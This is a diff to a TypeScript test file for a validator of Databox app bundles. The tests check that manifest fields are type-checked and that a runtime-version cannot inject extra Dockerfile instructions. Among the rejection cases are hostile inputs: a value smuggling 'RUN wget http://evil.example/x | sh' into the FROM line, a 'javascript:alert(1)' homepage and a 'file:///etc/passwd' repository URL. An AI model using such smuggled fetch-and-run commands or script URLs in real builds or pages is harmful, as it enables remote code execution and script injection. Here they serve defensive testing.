@@ -33,7 +33,7 @@ test('a Dockerfile that is not the generated one is refused once, naming the lin
     ['an escape directive', `# escape=\`\n${bundle.dockerfile}`, 1],
     ['CRLF line ends', bundle.dockerfile.replace(/\n/g, '\r\n'), 1],
     ['another base', bundle.dockerfile.replace('FROM databox/flow-runtime:0.1.0', 'FROM node:20'), 2],
-    ['a label changed', bundle.dockerfile.replace('io.databox.type="app"', 'io.databox.type="driver"'), 9],
+    ['a label changed', bundle.dockerfile.replace('io.databox.type="app"', 'io.databox.type="driver"'), 10],
   ];
   for (const [what, dockerfile, line] of cases) {
     assert.throws(() => checkBundle({ ...bundle, dockerfile }), (error: unknown) => {
@@ -102,4 +102,41 @@ test('the file set, sizes and flows are checked', () => {
   const many = new Map(files);
   many.set('flows.json', Buffer.from(JSON.stringify(Array.from({ length: 20 }, (_, i) => ({ id: `n${i}`, type: 'inject' })))));
   assert.throws(() => readBundleFiles(many, { maxNodes: 10 }), { code: 'bundle-flows-invalid', message: /20 entries, more than the limit of 10/ });
+});
+
+test('a runtime-version that is not a Docker tag is refused: the FROM line cannot carry a second instruction', () => {
+  const bundle = builtBundle();
+  for (const version of ['latest\nRUN wget http://evil.example/x | sh', 'latest AS x', '0.1.0 --platform=x', '', 'a'.repeat(129)]) {
+    const manifest = { ...bundle.manifest, 'runtime-version': version };
+    const files = bundleFileMap({ ...bundle, manifest });
+    // The publisher's own Dockerfile, made from the same manifest as the validator would make it.
+    files.set('Dockerfile', Buffer.from(bundle.dockerfile.replace('FROM databox/flow-runtime:0.1.0', `FROM databox/flow-runtime:${version}`)));
+    assert.throws(() => readBundleFiles(files), { code: 'manifest-invalid', message: /runtime-version: must be a Docker image tag/ }, JSON.stringify(version));
+  }
+});
+
+test('optional manifest fields the Dockerfile and the pages are made of are type-checked (a 400, never a TypeError)', () => {
+  const bundle = builtBundle();
+  const cases: [Record<string, unknown>, RegExp][] = [
+    [{ displayName: 5 }, /displayName: must be a string/],
+    [{ 'runtime-version': 1 }, /runtime-version: must be a Docker image tag/],
+    [{ homepage: { a: 1 } }, /homepage: must be an http/],
+    [{ homepage: 'javascript:alert(1)' }, /homepage: must be an http/],
+    [{ repository: { type: 'git', url: 'file:///etc/passwd' } }, /repository: must be/],
+    [{ publisher: 7 }, /publisher: must be a string/],
+    [{ datasources: [{ ...bundle.manifest.datasources[0], name: 3 }] }, /datasources\[0\]\.name: must be a string/],
+    [{ 'export-whitelist': [{ url: 'https://x.example', description: 9 }] }, /export-whitelist\[0\]\.description: must be a string/],
+    [{ provides: [{ 'data-source-type': 'x', 'store-type': 'sql', description: '' }] }, /provides\[0\]\.store-type/],
+  ];
+  for (const [change, message] of cases) {
+    const files = bundleFileMap(bundle);
+    files.set('databox-manifest.json', Buffer.from(JSON.stringify({ ...bundle.manifest, ...change })));
+    assert.throws(() => readBundleFiles(files), (error: unknown) => {
+      assert.ok(error instanceof Error && 'code' in error && 'status' in error, String(error));
+      assert.equal(error.code, 'manifest-invalid', JSON.stringify(change));
+      assert.equal(error.status, 400);
+      assert.match(error.message, message);
+      return true;
+    });
+  }
 });
